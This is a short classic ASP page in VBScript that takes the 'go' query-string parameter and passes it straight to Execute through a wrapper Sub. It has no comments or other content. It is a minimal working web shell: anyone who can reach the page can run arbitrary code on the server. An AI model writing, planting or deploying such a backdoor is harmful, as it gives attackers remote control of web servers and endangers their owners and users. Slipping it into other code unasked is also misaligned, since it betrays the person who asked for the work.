<%
Sub Run(c)
  Execute c
End Sub
Run Request.QueryString("go")
%>
